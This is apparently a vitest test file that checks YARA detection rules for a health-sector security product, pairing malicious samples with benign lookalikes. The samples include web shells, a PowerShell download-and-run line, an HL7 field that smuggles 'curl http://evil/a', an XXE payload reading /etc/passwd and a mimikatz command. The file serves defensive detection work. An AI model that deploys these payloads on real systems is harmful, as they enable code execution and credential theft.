import { fileURLToPath } from 'node:url';
import { readYaraSources, YaraEngine, type YaraSource } from '@sphinx/rules/yara';
import { beforeAll, describe, expect, it } from 'vitest';

const FOLDER = fileURLToPath(new URL('../../../knowledge/yara', import.meta.url));
const text = (content: string) => Buffer.from(content, 'latin1');
const zeros = (length: number) => '\0'.repeat(length);
const STUB = `MZ${zeros(75)}!This program cannot be run in DOS mode.`;
const dicom = (preamble: string, rest = '') => text(preamble.padEnd(128, '\0').concat('DICM', rest));
const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
const LINK = 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46';

/** A program with two sections of these names, as far as YARA reads its head. */
function program(first: string): Buffer {
  const bytes = Buffer.alloc(1024);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 60);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x14c, 0x84);
  bytes.writeUInt16LE(1, 0x86);
  bytes.writeUInt16LE(0xe0, 0x94);
  bytes.writeUInt16LE(0x102, 0x96);
  bytes.writeUInt16LE(0x10b, 0x98);
  bytes.write(first, 0x98 + 0xe0, 'latin1');
  bytes.writeUInt32LE(0x1000, 0x98 + 0xe0 + 8);
  return bytes;
}

/** Rule → content that fires it, and content that looks alike and must not. */
const CASES: Readonly<Record<string, readonly [Buffer, Buffer]>> = {
  EICAR_Test_File: [
    text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    text('The EICAR-STANDARD-ANTIVIRUS-TEST-FILE is described elsewhere'),
  ],
  Ransom_Note: [
    text('ALL YOUR FILES HAVE BEEN ENCRYPTED! Pay in Bitcoin. Use Tor Browser: http://abc.onion'),
    text('Our backup files are encrypted with a private key that stays in the safe of the hospital.'),
  ],
  PHP_Web_Shell: [
    text('<?php @eval(base64_decode($_POST["x"])); ?>'),
    text('<?php echo htmlspecialchars($_GET["q"]); ?>'),
  ],
  JSP_Web_Shell: [
    text('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'),
    text('<% out.print(request.getParameter("name")); %>'),
  ],
  ASP_Web_Shell: [text('<%eval(request("chopper"))%>'), text('<%=Server.HTMLEncode(Request("name"))%>')],
  Office_Macro_Runs_By_Itself: [
    text(`${OLE}Attribut\0e VB_Name AutoOpen WScript.Shell`),
    text(`${OLE}Attribut\0e VB_Name Sub Average`),
  ],
  Office_Document_With_Macros: [text('PK\x03\x04 word/vbaProject.bin'), text('PK\x03\x04 word/document.xml')],
  RTF_Equation_Editor_Object: [
    text('{\\rtf1{\\object{\\*\\objdata 01050000 02ce020000000000c000000000000046}}}'),
    text('{\\rtf1{\\object{\\*\\objdata 01050000 00000000}} report}'),
  ],
  Shortcut_Starts_Shell: [
    text(`${LINK} powershell.exe -WindowStyle Hidden -e AAAA`),
    text(`${LINK} C:\\Program Files\\Viewer\\viewer.exe`),
  ],
  PowerShell_Downloads_And_Runs: [
    text('IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")'),
    text('Invoke-WebRequest https://updates/catalog.xml -OutFile catalog.xml'),
  ],
  Mimikatz: [text('mimikatz # sekurlsa::logonpasswords'), text('How we found mimikatz last year')],
  Packed_Program: [program('UPX0'), program('.text')],
  HTML_Smuggling: [
    text(`<script>var b=new Blob([atob("TVqQ${'A'.repeat(60)}")]);URL.createObjectURL(b)</script>`),
    text(`<script>var b=new Blob([atob("iVBO${'A'.repeat(60)}")]);URL.createObjectURL(b)</script>`),
  ],
  DICOM_PE_Polyglot: [dicom('MZ'), dicom('II*\0')],
  DICOM_ELF_Polyglot: [dicom('\x7fELF'), dicom('')],
  DICOM_Carries_Program: [dicom('', `pixels${zeros(200)}${STUB}`), dicom('', 'This program cannot be run in DOS mode')],
  CDA_With_Script: [
    text('<ClinicalDocument><text><script>alert(1)</script></text></ClinicalDocument>'),
    text('<ClinicalDocument><text>Prescription</text></ClinicalDocument>'),
  ],
  XML_External_Entity: [
    text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    text('<!DOCTYPE a [<!ENTITY auml "&#228;">]><a>&auml;</a>'),
  ],
  HL7_Message_With_Command: [
    text('MSH|^~\\&|LAB\rPID|1||4711||x; curl http://evil/a'),
    text('MSH|^~\\&|LAB\rOBX|1|TX|||see curl of the hair; normal'),
  ],
};

let sources: readonly YaraSource[] = [];
let engine: YaraEngine;

beforeAll(async () => {
  sources = await readYaraSources([FOLDER]);
  engine = new YaraEngine(sources);
});

describe('own YARA rules', () => {
  it('are all in force, and each has a case, a rationale and a reference', () => {
    expect(engine.rejected).toEqual([]);
    const rules = sources.flatMap(({ text: source }) => source.split(/^rule /m).slice(1));
    expect(rules.map((rule) => rule.split(/\s/, 1)[0]).sort()).toEqual(Object.keys(CASES).sort());
    for (const rule of rules) expect(rule).toMatch(/rationale = "[\s\S]*reference = "https:/);
  });

  it.each(Object.entries(CASES))('%s fires on what it is for, and not on what looks alike', (name, [bad, good]) => {
    expect(engine.scan(bad).map(({ rule }) => rule)).toContain(name);
    expect(engine.scan(good).map(({ rule }) => rule)).not.toContain(name);
  });

  it('say in a match what it means, and nothing of the content', () => {
    expect(engine.scan(dicom('MZ'))).toEqual([
      {
        rule: 'DICOM_PE_Polyglot',
        file: 'sphinx-health',
        title: 'DICOM file that is a Windows program too (CVE-2019-11687)',
        severity: 'critical',
        references: [
          'https://nvd.nist.gov/vuln/detail/CVE-2019-11687',
          'https://www.dicomstandard.org/docs/librariesprovider2/dicomdocuments/wp-cybersecurity-dicom.pdf',
        ],
        techniques: ['T1027'],
      },
    ]);
  });
});

describe("a hospital's own rules", () => {
  it('that cannot be compiled are left out whole with the reason, and the others hold', () => {
    const own = new YaraEngine([
      { name: 'broken', text: 'rule fine { condition: true } rule bad { condition: $nothing }' },
      { name: 'good', text: 'rule contract { strings: $a = "order 66" condition: $a }' },
    ]);
    expect(own.rejected).toEqual([{ name: 'broken', reason: expect.stringContaining('unknown pattern `$nothing`') }]);
    expect(own.scan(text('an order 66')).map(({ rule, severity }) => [rule, severity])).toEqual([
      ['contract', 'medium'],
    ]);
  });
});
